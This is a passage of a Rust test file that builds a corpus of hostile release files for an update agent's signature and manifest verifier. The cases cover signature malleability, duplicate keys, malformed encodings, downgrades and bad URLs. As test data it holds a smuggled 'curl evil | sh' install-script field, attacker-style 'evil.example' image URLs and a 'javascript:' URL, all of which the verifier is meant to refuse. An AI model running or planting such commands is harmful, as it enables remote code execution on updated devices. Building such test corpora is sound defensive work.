//! The hostile release corpus: `tests/corpus/releases/*.release`, each with its expected outcome
//! in `tests/corpus/cases.toml`.
//!
//! The corpus is data on disk (the fuzzer seeds from it) made by [`generate`] from fixed keys, so
//! it is byte-for-byte reproducible: `corpus_on_disk_is_what_the_generator_makes` fails when
//! they differ, and `UPDATE_AGENT_WRITE_CORPUS=1 cargo test --test release_corpus` rewrites it.

mod common;

use std::collections::{BTreeMap, BTreeSet};
use std::fs;
use std::path::{Path, PathBuf};
use std::sync::OnceLock;

use base64::Engine;
use base64::engine::general_purpose::{STANDARD_NO_PAD, URL_SAFE};
use common::*;
use ed25519_dalek::Signer;
use serde::{Deserialize, Serialize};
use serde_json::{Value, json};
use update_agent::anchor::{Protection, TrustAnchor};
use update_agent::reason::ReasonCode;
use update_agent::release::{Envelope, Manifest, Policy, verify};

const ACCEPT: &str = "accept";
const MIN_CASES: usize = 40;

#[derive(Debug, Serialize, Deserialize)]
struct CasesFile {
    policy: PolicyFile,
    case: Vec<CaseEntry>,
}

#[derive(Debug, Serialize, Deserialize)]
struct PolicyFile {
    compatible: String,
    floor: u64,
    now: String,
    threshold: usize,
    /// Directory (relative to `tests/corpus`) of the trusted public keys.
    anchor: String,
}

#[derive(Debug, Clone, Serialize, Deserialize)]
struct CaseEntry {
    name: String,
    /// `accept`, or the reason code the release must be refused with.
    expect: String,
    #[serde(default, skip_serializing_if = "Option::is_none")]
    threshold: Option<usize>,
    about: String,
}

/// One generated case: its entry in `cases.toml`, the release bytes and, when the release carries
/// a distinct manifest, the manifest bytes (seeds for fuzzing the manifest parser directly).
struct Case {
    entry: CaseEntry,
    release: Vec<u8>,
    manifest: Option<Vec<u8>>,
}

struct Generator {
    cases: Vec<Case>,
}

impl Generator {
    fn add(&mut self, name: &str, expect: &str, about: &str, release: Vec<u8>) {
        self.push(name, expect, None, about, release, None);
    }

    fn push(
        &mut self,
        name: &str,
        expect: &str,
        threshold: Option<usize>,
        about: &str,
        release: Vec<u8>,
        manifest: Option<Vec<u8>>,
    ) {
        assert!(
            !self.cases.iter().any(|c| c.entry.name == name),
            "duplicate case name {name}"
        );
        self.cases.push(Case {
            entry: CaseEntry {
                name: name.into(),
                expect: expect.into(),
                threshold,
                about: about.into(),
            },
            release,
            manifest,
        });
    }

    /// A manifest given as bytes, signed by key A: its signature is fine, so the case tests the
    /// manifest's contents.
    fn manifest_bytes(&mut self, name: &str, expect: &str, about: &str, manifest: Vec<u8>) {
        let release = signed(&manifest, &[KEY_A]);
        self.push(name, expect, None, about, release, Some(manifest));
    }

    /// The base manifest changed by `edit`, signed by key A.
    fn manifest(&mut self, name: &str, expect: &str, about: &str, edit: impl FnOnce(&mut Value)) {
        let mut manifest = base_manifest();
        edit(&mut manifest);
        self.manifest_bytes(name, expect, about, to_bytes(&manifest));
    }

    /// The base manifest's compact JSON text with `from` replaced by `to`, signed by key A: for
    /// shapes a JSON value cannot hold (duplicate keys, big or float numbers, raw bytes).
    fn manifest_text(&mut self, name: &str, expect: &str, about: &str, from: &str, to: &[u8]) {
        let text = to_bytes(&base_manifest());
        let at = find(&text, from.as_bytes()).unwrap_or_else(|| panic!("{name}: no {from:?}"));
        let mut manifest = text[..at].to_vec();
        manifest.extend_from_slice(to);
        manifest.extend_from_slice(&text[at + from.len()..]);
        self.manifest_bytes(name, expect, about, manifest);
    }
}

fn find(haystack: &[u8], needle: &[u8]) -> Option<usize> {
    haystack.windows(needle.len()).position(|w| w == needle)
}

fn replace_once(text: &[u8], from: &str, to: &[u8]) -> Vec<u8> {
    let at = find(text, from.as_bytes()).unwrap_or_else(|| panic!("no {from:?}"));
    let mut out = text[..at].to_vec();
    out.extend_from_slice(to);
    out.extend_from_slice(&text[at + from.len()..]);
    out
}

fn image(manifest: &mut Value) -> &mut Value {
    &mut manifest["images"]["rootfs"]
}

fn nested(depth: usize) -> String {
    format!("{}{}", "[".repeat(depth), "]".repeat(depth))
}

/// Ed25519's group order ℓ, little-endian: S + ℓ is the same S to a lax verifier.
const ELL: [u8; 32] = [
    0xed, 0xd3, 0xf5, 0x5c, 0x1a, 0x63, 0x12, 0x58, 0xd6, 0x9c, 0xf7, 0xa2, 0xde, 0xf9, 0xde, 0x14,
    0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0, 0x10,
];

fn generate() -> Vec<Case> {
    let mut g = Generator { cases: Vec::new() };
    let base = to_bytes(&base_manifest());
    let (a_id, a_sig) = sig_entry(KEY_A, &base);
    let b_id = keyid_hex(KEY_B);
    let a = || (a_id.clone(), a_sig.clone());

    // --- accepted: the controls, so the corpus test fails both ways ---
    g.push(
        "valid-minimal",
        ACCEPT,
        None,
        "the base manifest signed by trusted key A",
        signed(&base, &[KEY_A]),
        Some(base.clone()),
    );
    g.manifest(
        "valid-full",
        ACCEPT,
        "every optional field: expires, deadline, zstd transport, chunk index, two images, a file URL, an advisory with newline and tab",
        |m| {
            m["expires"] = json!("2027-05-01T00:00:00Z");
            m["deadline"] = json!("2026-07-01T00:00:00Z");
            m["severity"] = json!("critical");
            m["advisory"] = json!("Fixes:\n\t- CVE-2026-0001\n\t- CVE-2026-0002");
            let image = image(m);
            image["compression"] = json!("zstd");
            image["transport_size"] = json!(400000);
            image["transport_sha256"] = json!(IMAGE_SHA256);
            image["chunks"] = json!({
                "url": "https://updates.example.com/rootfs.img.zst.index",
                "sha256": IMAGE_SHA256,
                "chunk_size": 4096
            });
            m["images"]["appfs"] =
                json!({"url": "file:///media/usb/appfs.img", "size": 4096, "sha256": IMAGE_SHA256});
        },
    );
    g.manifest(
        "valid-block-index-in-format-1",
        ACCEPT,
        "a block index (docs/block-index.md) is named by format 1's chunk index: agents that do not read it take the release and download the image in full",
        |m| {
            image(m)["chunks"] = json!({
                "url": "https://updates.example.com/rootfs.img.index",
                "sha256": IMAGE_SHA256,
                "chunk_size": 4096
            })
        },
    );
    g.push(
        "valid-two-signers-threshold-2",
        ACCEPT,
        Some(2),
        "k of n: keys A and B both signed, threshold 2",
        signed(&base, &[KEY_A, KEY_B]),
        None,
    );
    g.add(
        "valid-unknown-key-alongside",
        ACCEPT,
        "a signature by an unknown key (another fleet's) beside a valid one by A is skipped",
        signed(&base, &[KEY_C, KEY_A]),
    );
    g.add(
        "valid-keyid-uppercase",
        ACCEPT,
        "key ids are hex in either case",
        envelope(&base, &[(a_id.to_uppercase(), a_sig.clone())]),
    );
    let mut sixteen: Vec<_> = (100..115).map(|seed| sig_entry(seed, &base)).collect();
    sixteen.push(a());
    g.add(
        "valid-16-signatures",
        ACCEPT,
        "16 signatures, the most accepted: 15 by unknown keys and one by A",
        envelope(&base, &sixteen),
    );
    let mut padded = signed(&base, &[KEY_A]);
    padded.resize(64 * 1024, b' ');
    g.add(
        "valid-exactly-64kib",
        ACCEPT,
        "a release of exactly 64 KiB (trailing JSON whitespace) is still accepted",
        padded.clone(),
    );
    g.add(
        "valid-corrupt-extra-signature",
        ACCEPT,
        "threshold 1: A's valid signature carries it; B's corrupted one does not veto (it could be stripped anyway)",
        envelope(&base, &[a(), (b_id.clone(), a_sig.clone())]),
    );
    g.manifest(
        "valid-at-floor",
        ACCEPT,
        "security_version equal to the floor is not a downgrade",
        |m| m["security_version"] = json!(FLOOR),
    );
    g.manifest(
        "valid-size-exactly-1tib",
        ACCEPT,
        "image size of exactly 1 TiB, the largest accepted",
        |m| image(m)["size"] = json!(1u64 << 40),
    );
    g.manifest(
        "valid-unicode-advisory",
        ACCEPT,
        "non-ASCII text is fine (it is escaped when logged)",
        |m| m["advisory"] = json!("Behebt eine Lücke im MQTT-Client — 修复"),
    );

    // --- envelope: size and syntax ---
    padded.push(b' ');
    g.add(
        "too-large-64kib-plus-1",
        "too-large",
        "one byte over 64 KiB is refused before parsing",
        padded,
    );
    g.add("envelope-empty", "malformed", "an empty file", Vec::new());
    g.add(
        "envelope-not-json",
        "malformed",
        "plain text",
        b"release 2026.06.1\n".to_vec(),
    );
    g.add("envelope-null", "malformed", "JSON null", b"null".to_vec());
    g.add(
        "envelope-array",
        "malformed",
        "a JSON array instead of an object",
        format!("[\"{}\", []]", b64(&base)).into_bytes(),
    );
    let valid = signed(&base, &[KEY_A]);
    g.add(
        "envelope-bom-prefix",
        "malformed",
        "a UTF-8 byte order mark before the JSON",
        [b"\xef\xbb\xbf".as_slice(), &valid].concat(),
    );
    g.add(
        "envelope-trailing-garbage",
        "malformed",
        "a second JSON value after the envelope",
        [valid.as_slice(), b"{\"manifest\": \"\"}"].concat(),
    );
    g.add(
        "envelope-trailing-nul",
        "malformed",
        "a NUL byte after the JSON",
        [valid.as_slice(), b"\0"].concat(),
    );
    g.add(
        "envelope-nul-in-string",
        "malformed",
        "a raw NUL byte inside the manifest string",
        replace_once(&valid, "\"manifest\": \"", b"\"manifest\": \"\0"),
    );
    g.add(
        "envelope-non-utf8",
        "malformed",
        "bytes that are not UTF-8 inside a string",
        replace_once(&valid, "\"keyid\": \"", b"\"keyid\": \"\xff\xfe"),
    );
    g.add(
        "envelope-deep-nesting",
        "malformed",
        "signatures nested 2000 arrays deep: refused by serde_json's recursion limit, no stack overflow",
        format!("{{\"manifest\": \"\", \"signatures\": {}}}", nested(2_000)).into_bytes(),
    );
    g.add(
        "envelope-deep-nesting-first",
        "malformed",
        "2000 nested arrays where the envelope object should be",
        nested(2_000).into_bytes(),
    );
    g.add(
        "envelope-missing-manifest",
        "malformed",
        "no manifest field",
        format!(r#"{{"signatures": [{{"keyid": "{a_id}", "sig": "{a_sig}"}}]}}"#).into_bytes(),
    );
    g.add(
        "envelope-missing-signatures",
        "malformed",
        "no signatures field",
        format!(r#"{{"manifest": "{}"}}"#, b64(&base)).into_bytes(),
    );
    g.add(
        "envelope-extra-field",
        "malformed",
        "an unknown field beside manifest and signatures",
        replace_once(&valid, "{", b"{\"comment\": \"hi\", "),
    );
    g.add(
        "envelope-extra-field-control-chars",
        "malformed",
        "an unknown field named with a terminal escape and a newline: refused, and escaped in the message",
        replace_once(&valid, "{", b"{\"\\u001b[2J\\nFAKE: accepted\": 1, "),
    );
    g.add(
        "envelope-manifest-not-string",
        "malformed",
        "manifest as a JSON object instead of base64",
        replace_once(&valid, "\"manifest\": \"", b"\"manifest\": {}, \"x\": \""),
    );
    g.add(
        "envelope-signatures-object",
        "malformed",
        "signatures as an object instead of a list",
        format!(
            r#"{{"manifest": "{}", "signatures": {{"keyid": "{a_id}", "sig": "{a_sig}"}}}}"#,
            b64(&base)
        )
        .into_bytes(),
    );
    let mut other = base_manifest();
    other["images"]["rootfs"]["url"] = json!("https://evil.example/rootfs.img");
    let other = to_bytes(&other);
    g.add(
        "envelope-duplicate-manifest",
        "malformed",
        "two manifest keys: the signed one first, another after (serde_json would keep the last); refused as a duplicate field",
        replace_once(
            &valid,
            "\"signatures\"",
            format!("\"manifest\": \"{}\",\n  \"signatures\"", b64(&other)).as_bytes(),
        ),
    );
    g.add(
        "envelope-duplicate-signatures",
        "malformed",
        "two signatures keys",
        replace_once(&valid, "{", b"{\"signatures\": [], "),
    );
    g.add(
        "signature-extra-field",
        "malformed",
        "a signature entry with an unknown field",
        replace_once(&valid, "\"keyid\"", b"\"alg\": \"none\", \"keyid\""),
    );
    g.add(
        "signature-missing-sig",
        "malformed",
        "a signature entry without sig",
        format!(
            r#"{{"manifest": "{}", "signatures": [{{"keyid": "{a_id}"}}]}}"#,
            b64(&base)
        )
        .into_bytes(),
    );
    g.add(
        "signature-duplicate-sig-field",
        "malformed",
        "a signature entry with sig twice: a valid one, then zeros",
        replace_once(
            &valid,
            "\"sig\"",
            format!("\"sig\": \"{}\", \"sig\"", b64(&[0; 64])).as_bytes(),
        ),
    );

    // --- envelope: encodings of the manifest, the key ids and the signatures ---
    g.add(
        "manifest-bad-base64",
        "malformed",
        "a character outside the base64 alphabet in manifest",
        envelope_with_manifest_text(&format!("!{}", &b64(&base)[1..]), &[a()]),
    );
    // A manifest whose base64 needs padding and uses '+' and '/': five equal bytes hold one
    // aligned three-byte group whatever the offset ("???" is "Pz8/", "~~~" is "fn5+"), and a
    // trailing newline (JSON whitespace) fixes the length.
    let mut odd = base_manifest();
    odd["advisory"] = json!("Fixes ????? and ~~~~~.");
    let mut odd = to_bytes(&odd);
    if odd.len().is_multiple_of(3) {
        odd.push(b'\n');
    }
    let odd_sig = sig_entry(KEY_A, &odd);
    let unpadded = STANDARD_NO_PAD.encode(&odd);
    assert_ne!(unpadded, b64(&odd));
    g.add(
        "manifest-base64-unpadded",
        "malformed",
        "manifest base64 without its = padding",
        envelope_with_manifest_text(&unpadded, std::slice::from_ref(&odd_sig)),
    );
    let url_safe = URL_SAFE.encode(&odd);
    assert!(b64(&odd).contains('/') && b64(&odd).contains('+'));
    g.add(
        "manifest-base64url",
        "malformed",
        "manifest in the URL-safe base64 alphabet ('-' and '_' for '+' and '/')",
        envelope_with_manifest_text(&url_safe, std::slice::from_ref(&odd_sig)),
    );
    g.push(
        "valid-padded-base64",
        ACCEPT,
        None,
        "the same manifest in standard padded base64 is accepted (control for the two above)",
        envelope(&odd, &[odd_sig]),
        Some(odd.clone()),
    );
    let broken: Vec<String> = b64(&base)
        .as_bytes()
        .chunks(76)
        .map(|line| String::from_utf8(line.to_vec()).unwrap())
        .collect();
    g.add(
        "manifest-base64-line-breaks",
        "malformed",
        "manifest base64 broken into MIME lines",
        envelope_with_manifest_text(&broken.join("\n"), &[a()]),
    );
    g.add(
        "sig-bad-base64",
        "malformed",
        "sig with a character outside the base64 alphabet",
        envelope(&base, &[(a_id.clone(), format!("*{}", &a_sig[1..]))]),
    );
    let raw_sig = key(KEY_A).sign(&base).to_bytes();
    g.add(
        "sig-63-bytes",
        "malformed",
        "a signature one byte short",
        envelope(&base, &[(a_id.clone(), b64(&raw_sig[..63]))]),
    );
    g.add(
        "sig-65-bytes",
        "malformed",
        "a signature one byte long",
        envelope(
            &base,
            &[(a_id.clone(), b64(&[&raw_sig[..], &[0]].concat()))],
        ),
    );
    g.add(
        "sig-empty",
        "malformed",
        "an empty sig",
        envelope(&base, &[(a_id.clone(), String::new())]),
    );
    g.add(
        "keyid-63-hex",
        "malformed",
        "a key id one hex digit short",
        envelope(&base, &[(a_id[..63].to_string(), a_sig.clone())]),
    );
    g.add(
        "keyid-non-hex",
        "malformed",
        "a key id of 64 characters that are not hex",
        envelope(&base, &[(format!("zz{}", &a_id[2..]), a_sig.clone())]),
    );
    g.add(
        "keyid-empty",
        "malformed",
        "an empty key id",
        envelope(&base, &[(String::new(), a_sig.clone())]),
    );
    g.add(
        "signatures-empty",
        "untrusted-key",
        "no signature at all",
        envelope(&base, &[]),
    );
    let mut seventeen: Vec<_> = (100..116).map(|seed| sig_entry(seed, &base)).collect();
    seventeen.push(a());
    g.add(
        "signatures-17",
        "malformed",
        "17 signatures, one more than accepted, even though one is valid",
        envelope(&base, &seventeen),
    );

    // --- signatures ---
    let mut flipped = base.clone();
    flipped[40] ^= 0x01;
    g.push(
        "manifest-bit-flipped",
        "bad-signature",
        None,
        "one bit of the manifest flipped after signing",
        envelope(&flipped, &[a()]),
        Some(flipped.clone()),
    );
    let mut flipped_sig = raw_sig;
    flipped_sig[10] ^= 0x80;
    g.add(
        "sig-bit-flipped",
        "bad-signature",
        "one bit of A's signature flipped",
        envelope(&base, &[(a_id.clone(), b64(&flipped_sig))]),
    );
    g.add(
        "sig-from-other-manifest",
        "bad-signature",
        "A's valid signature of one manifest attached to another",
        envelope(&other, &[a()]),
    );
    let mut malleated = raw_sig;
    let mut carry = 0u16;
    for (byte, ell) in malleated[32..].iter_mut().zip(ELL) {
        let sum = u16::from(*byte) + u16::from(ell) + carry;
        *byte = sum as u8;
        carry = sum >> 8;
    }
    g.add(
        "sig-non-canonical-s",
        "bad-signature",
        "A's signature with S replaced by S + l (malleability): refused by strict verification",
        envelope(&base, &[(a_id.clone(), b64(&malleated))]),
    );
    g.add(
        "sig-all-zero",
        "bad-signature",
        "64 zero bytes as A's signature",
        envelope(&base, &[(a_id.clone(), b64(&[0; 64]))]),
    );
    g.add(
        "sig-keyid-swapped",
        "bad-signature",
        "A's signature labelled with B's key id",
        envelope(&base, &[(b_id.clone(), a_sig.clone())]),
    );
    g.add(
        "signed-by-untrusted-key",
        "untrusted-key",
        "a valid signature by key C, which is not in the anchor",
        signed(&base, &[KEY_C]),
    );
    g.add(
        "unknown-keyid-alone",
        "untrusted-key",
        "A's signature under a key id that names no key in the anchor",
        envelope(&base, &[("ab".repeat(32), a_sig.clone())]),
    );
    g.push(
        "same-key-twice-threshold-2",
        "below-threshold",
        Some(2),
        "A's signature listed twice does not count as two keys",
        envelope(&base, &[a(), a()]),
        None,
    );
    g.push(
        "same-key-twice-case-threshold-2",
        "below-threshold",
        Some(2),
        "A's signature twice, key id once in upper case: still one key",
        envelope(&base, &[a(), (a_id.to_uppercase(), a_sig.clone())]),
        None,
    );
    g.push(
        "trusted-and-untrusted-threshold-2",
        "below-threshold",
        Some(2),
        "A and untrusted C signed, threshold 2",
        signed(&base, &[KEY_A, KEY_C]),
        None,
    );
    g.push(
        "second-sig-bad-threshold-2",
        "bad-signature",
        Some(2),
        "A valid, B's signature corrupted, threshold 2: reported as tampering",
        envelope(&base, &[a(), (b_id.clone(), b64(&flipped_sig))]),
        None,
    );

    // --- manifest syntax (signed by A, so the signature is fine) ---
    g.manifest_bytes(
        "manifest-not-json",
        "malformed",
        "signed plain text",
        b"version=2026.06.1\n".to_vec(),
    );
    g.manifest_bytes(
        "manifest-empty",
        "malformed",
        "a signed empty manifest",
        Vec::new(),
    );
    g.manifest_bytes(
        "manifest-bom-prefix",
        "malformed",
        "a byte order mark before the manifest JSON",
        [b"\xef\xbb\xbf".as_slice(), &base].concat(),
    );
    g.manifest_bytes(
        "manifest-trailing-garbage",
        "malformed",
        "a second object after the manifest",
        [base.as_slice(), b"{\"security_version\": 99}"].concat(),
    );
    g.manifest_bytes(
        "manifest-trailing-nul",
        "malformed",
        "a NUL byte after the manifest JSON",
        [base.as_slice(), b"\0"].concat(),
    );
    g.manifest_text(
        "manifest-non-utf8",
        "malformed",
        "bytes that are not UTF-8 in version",
        "\"version\":\"",
        b"\"version\":\"\xc3\x28",
    );
    g.manifest_text(
        "manifest-lone-surrogate",
        "malformed",
        "a lone UTF-16 surrogate escape in version",
        "\"version\":\"",
        b"\"version\":\"\\ud800",
    );
    g.manifest_text(
        "manifest-deep-nesting",
        "malformed",
        "advisory nested 2000 arrays deep",
        "\"advisory\":\"Fixes CVE-2026-0001 in the MQTT client.\"",
        format!("\"advisory\":{}", nested(2_000)).as_bytes(),
    );
    g.manifest_text(
        "manifest-deep-nesting-unknown-field",
        "malformed",
        "an unknown field holding 2000 nested arrays (reaches the format pre-check, which skips unknown fields)",
        "{",
        format!("{{\"x\":{},", nested(2_000)).as_bytes(),
    );
    g.manifest_text(
        "manifest-deep-nesting-objects",
        "malformed",
        "an unknown field holding 1000 nested objects",
        "{",
        format!("{{\"x\":{}1{},", "{\"a\":".repeat(1_000), "}".repeat(1_000)).as_bytes(),
    );
    for (field, name) in [
        ("version", "manifest-missing-version"),
        ("security_version", "manifest-missing-security-version"),
        ("compatible", "manifest-missing-compatible"),
        ("created", "manifest-missing-created"),
        ("images", "manifest-missing-images"),
        ("format", "manifest-missing-format"),
    ] {
        g.manifest(name, "malformed", &format!("no {field} field"), |m| {
            m.as_object_mut().unwrap().remove(field);
        });
    }
    g.manifest(
        "image-missing-sha256",
        "malformed",
        "an image without sha256",
        |m| {
            image(m).as_object_mut().unwrap().remove("sha256");
        },
    );
    g.manifest(
        "manifest-extra-field",
        "malformed",
        "an unknown manifest field (a future one, or a smuggled one)",
        |m| m["pre_install_script"] = json!("curl evil | sh"),
    );
    g.manifest(
        "image-extra-field",
        "malformed",
        "an unknown image field",
        |m| image(m)["offset"] = json!(512),
    );
    g.manifest(
        "disruption-extra-field",
        "malformed",
        "an unknown disruption field",
        |m| m["disruption"]["power_cycle"] = json!(true),
    );
    g.manifest(
        "chunks-extra-field",
        "malformed",
        "an unknown chunk index field",
        |m| {
            image(m)["chunks"] = json!({
                "url": "https://updates.example.com/c",
                "sha256": IMAGE_SHA256,
                "chunk_size": 4096,
                "count": 256
            })
        },
    );
    g.manifest_text(
        "manifest-duplicate-field",
        "malformed",
        "security_version twice, 9 then 12: a reader keeping the first would see a downgrade, serde_json the last; refused",
        "\"security_version\":12",
        b"\"security_version\":9,\"security_version\":12",
    );
    g.manifest_text(
        "manifest-duplicate-slot-class",
        "malformed",
        "images.rootfs twice with different URLs: which one is meant is ambiguous, so refused",
        "\"images\":{",
        format!(
            "\"images\":{{\"rootfs\":{{\"url\":\"https://evil.example/x\",\"size\":1,\"sha256\":\"{IMAGE_SHA256}\"}},"
        )
        .as_bytes(),
    );

    // --- other JSON spellings of the same values: serde's derive reads a struct from an array
    // of its fields and a unit variant from {"name": null}; the wire format has one spelling ---
    g.add(
        "signature-entry-as-array",
        "malformed",
        "a signature entry as [keyid, sig] instead of an object",
        format!(
            r#"{{"manifest": "{}", "signatures": [["{a_id}", "{a_sig}"]]}}"#,
            b64(&base)
        )
        .into_bytes(),
    );
    let positional = {
        let m = base_manifest();
        json!([
            m["format"],
            m["version"],
            m["security_version"],
            m["compatible"],
            m["created"],
            null,
            m["security"],
            m["severity"],
            m["advisory"],
            m["disruption"],
            null,
            m["images"]
        ])
    };
    g.manifest_bytes(
        "manifest-as-array",
        "malformed",
        "the manifest's fields as a positional array: no other reader would see a manifest",
        to_bytes(&positional),
    );
    g.manifest_bytes(
        "manifest-format-2-in-array",
        "malformed",
        "[2]: an array is not a manifest of any format",
        b"[2]".to_vec(),
    );
    g.manifest(
        "image-as-array",
        "malformed",
        "an image as [url, size, sha256]",
        |m| {
            let url = image(m)["url"].clone();
            m["images"]["rootfs"] = json!([url, 1048576, IMAGE_SHA256]);
        },
    );
    g.manifest(
        "disruption-as-array",
        "malformed",
        "disruption as [reboot, downtime]",
        |m| m["disruption"] = json!([true, 90]),
    );
    g.manifest(
        "chunks-as-array",
        "malformed",
        "a chunk index as [url, sha256, chunk_size]",
        |m| image(m)["chunks"] = json!(["https://updates.example.com/c", IMAGE_SHA256, 4096]),
    );
    g.manifest(
        "severity-as-object",
        "malformed",
        "severity as {\"high\": null}",
        |m| m["severity"] = json!({"high": null}),
    );
    g.manifest(
        "compression-as-object",
        "malformed",
        "compression as {\"zstd\": null}",
        |m| {
            let image = image(m);
            image["compression"] = json!({"zstd": null});
            image["transport_size"] = json!(1000);
            image["transport_sha256"] = json!(IMAGE_SHA256);
        },
    );

    // --- manifest types ---
    g.manifest(
        "security-version-string",
        "malformed",
        "security_version as a string",
        |m| m["security_version"] = json!("12"),
    );
    g.manifest(
        "security-version-negative",
        "malformed",
        "a negative security_version",
        |m| m["security_version"] = json!(-1),
    );
    g.manifest(
        "security-flag-string",
        "malformed",
        "security as the string \"true\"",
        |m| m["security"] = json!("true"),
    );
    g.manifest(
        "created-number",
        "malformed",
        "created as a Unix time number",
        |m| m["created"] = json!(1777593600),
    );
    g.manifest("created-not-a-time", "malformed", "created as prose", |m| {
        m["created"] = json!("yesterday")
    });
    g.manifest(
        "images-array",
        "malformed",
        "images as a list instead of a map",
        |m| {
            let rootfs = image(m).clone();
            m["images"] = json!([rootfs]);
        },
    );
    g.manifest(
        "severity-unknown",
        "malformed",
        "a severity outside none/low/medium/high/critical",
        |m| m["severity"] = json!("urgent"),
    );

    // --- format version ---
    g.manifest(
        "format-3",
        "unsupported-format",
        "a newer manifest format",
        |m| m["format"] = json!(3),
    );
    g.manifest(
        "format-3-with-new-fields",
        "unsupported-format",
        "format 3 with a field formats 1 and 2 do not know: refused as unsupported, not malformed",
        |m| {
            m["format"] = json!(3);
            m["delta"] = json!({"from": "2026.05.1"});
        },
    );
    g.manifest(
        "format-2-rollout",
        ACCEPT,
        "format 2 with a rollout schedule (agents that read only format 1 refuse it as unsupported-format)",
        |m| {
            m["format"] = json!(2);
            m["rollout"] = json!({"start": "2026-06-01T00:00:00Z", "duration": 86400});
        },
    );
    g.manifest(
        "format-1-with-rollout",
        "malformed",
        "a rollout schedule in format 1, which older agents would not read",
        |m| m["rollout"] = json!({"start": "2026-06-01T00:00:00Z", "duration": 86400}),
    );
    g.manifest(
        "format-2-without-rollout",
        "malformed",
        "format 2 without the schedule that format 2 is for",
        |m| m["format"] = json!(2),
    );
    g.manifest(
        "rollout-unknown-field",
        "malformed",
        "a rollout schedule with a field it does not have",
        |m| {
            m["format"] = json!(2);
            m["rollout"] =
                json!({"start": "2026-06-01T00:00:00Z", "duration": 86400, "percent": 10});
        },
    );
    g.manifest("format-0", "unsupported-format", "format 0", |m| {
        m["format"] = json!(0)
    });
    g.manifest(
        "format-string",
        "malformed",
        "format as the string \"1\"",
        |m| m["format"] = json!("1"),
    );
    g.manifest("format-float", "malformed", "format as 1.0", |m| {
        m["format"] = json!(1.0)
    });

    // --- policy: compatible, floor, expiry ---
    g.manifest(
        "wrong-compatible",
        "incompatible",
        "a release for another product",
        |m| m["compatible"] = json!("acme-gw-2"),
    );
    g.manifest(
        "compatible-case-differs",
        "incompatible",
        "compatible strings compare exactly",
        |m| m["compatible"] = json!("ACME-GW-1"),
    );
    g.manifest(
        "downgrade",
        "downgrade",
        "security_version one below the floor",
        |m| m["security_version"] = json!(FLOOR - 1),
    );
    g.manifest(
        "expired",
        "expired",
        "expires before the policy's now",
        |m| m["expires"] = json!("2026-05-15T00:00:00Z"),
    );
    g.manifest(
        "expires-exactly-now",
        "expired",
        "expires equal to now counts as expired",
        |m| m["expires"] = json!(NOW),
    );
    g.manifest(
        "expires-before-created",
        "malformed",
        "expires before created",
        |m| m["expires"] = json!("2026-04-01T00:00:00Z"),
    );
    g.manifest(
        "deadline-before-created",
        "malformed",
        "deadline before created",
        |m| m["deadline"] = json!("2026-04-01T00:00:00Z"),
    );

    // --- image sizes and hashes ---
    g.manifest("size-over-1tib", "malformed", "image size 1 TiB + 1", |m| {
        image(m)["size"] = json!((1u64 << 40) + 1)
    });
    g.manifest("size-u64-max", "malformed", "image size u64::MAX", |m| {
        image(m)["size"] = json!(u64::MAX)
    });
    g.manifest_text(
        "size-2-pow-64",
        "malformed",
        "image size 2^64, past u64",
        "\"size\":1048576",
        b"\"size\":18446744073709551616",
    );
    g.manifest_text(
        "size-negative",
        "malformed",
        "a negative image size",
        "\"size\":1048576",
        b"\"size\":-1048576",
    );
    g.manifest_text(
        "size-float",
        "malformed",
        "image size written as a float",
        "\"size\":1048576",
        b"\"size\":1048576.0",
    );
    g.manifest_text(
        "size-exponent",
        "malformed",
        "image size in exponent notation",
        "\"size\":1048576",
        b"\"size\":1e6",
    );
    g.manifest("size-zero", "malformed", "an empty image", |m| {
        image(m)["size"] = json!(0)
    });
    g.manifest(
        "transport-size-over-1tib",
        "malformed",
        "a compressed image whose transport size is over 1 TiB",
        |m| {
            let image = image(m);
            image["compression"] = json!("zstd");
            image["transport_size"] = json!(u64::MAX);
            image["transport_sha256"] = json!(IMAGE_SHA256);
        },
    );
    g.manifest(
        "sha256-63-hex",
        "malformed",
        "sha256 one digit short",
        |m| image(m)["sha256"] = json!(&IMAGE_SHA256[..63]),
    );
    g.manifest("sha256-65-hex", "malformed", "sha256 one digit long", |m| {
        image(m)["sha256"] = json!(format!("{IMAGE_SHA256}0"))
    });
    g.manifest(
        "sha256-uppercase",
        "malformed",
        "sha256 in upper-case hex (one spelling per digest)",
        |m| image(m)["sha256"] = json!(IMAGE_SHA256.to_uppercase()),
    );
    g.manifest(
        "sha256-non-hex",
        "malformed",
        "sha256 with a non-hex digit",
        |m| image(m)["sha256"] = json!(format!("g{}", &IMAGE_SHA256[1..])),
    );
    g.manifest(
        "transport-sha256-uppercase",
        "malformed",
        "transport_sha256 in upper case",
        |m| {
            let image = image(m);
            image["compression"] = json!("zstd");
            image["transport_size"] = json!(1000);
            image["transport_sha256"] = json!(IMAGE_SHA256.to_uppercase());
        },
    );
    g.manifest(
        "compression-unknown",
        "malformed",
        "a compression other than zstd",
        |m| {
            let image = image(m);
            image["compression"] = json!("gzip");
            image["transport_size"] = json!(1000);
            image["transport_sha256"] = json!(IMAGE_SHA256);
        },
    );
    g.manifest(
        "compression-without-transport",
        "malformed",
        "compression without transport_size and transport_sha256",
        |m| image(m)["compression"] = json!("zstd"),
    );
    g.manifest(
        "chunk-size-not-power-of-two",
        "malformed",
        "a chunk size of 1000000",
        |m| {
            image(m)["chunks"] = json!({
                "url": "https://updates.example.com/c",
                "sha256": IMAGE_SHA256,
                "chunk_size": 1000000
            })
        },
    );
    g.manifest(
        "downtime-over-a-week",
        "malformed",
        "disruption.downtime_seconds over a week",
        |m| m["disruption"]["downtime_seconds"] = json!(8 * 24 * 3600),
    );

    // --- URLs ---
    for (name, url, expect, about) in [
        (
            "url-ftp",
            "ftp://updates.example.com/rootfs.img",
            "unsupported-url",
            "an ftp URL",
        ),
        (
            "url-javascript",
            "javascript:alert(1)",
            "unsupported-url",
            "a javascript: URL",
        ),
        (
            "url-data",
            "data:application/octet-stream;base64,AAAA",
            "unsupported-url",
            "a data: URL carrying the image inline",
        ),
        (
            "url-no-host",
            "https://",
            "malformed",
            "an https URL without a host",
        ),
        ("url-relative", "rootfs.img", "malformed", "a relative URL"),
        ("url-too-long", "LONG", "malformed", "a URL over 2048 bytes"),
    ] {
        let url = if url == "LONG" {
            format!("https://updates.example.com/{}", "a".repeat(2048))
        } else {
            url.to_string()
        };
        g.manifest(name, expect, about, |m| image(m)["url"] = json!(url));
    }
    g.manifest(
        "chunks-url-ftp",
        "unsupported-url",
        "a chunk index from an ftp URL",
        |m| {
            image(m)["chunks"] = json!({
                "url": "ftp://updates.example.com/c",
                "sha256": IMAGE_SHA256,
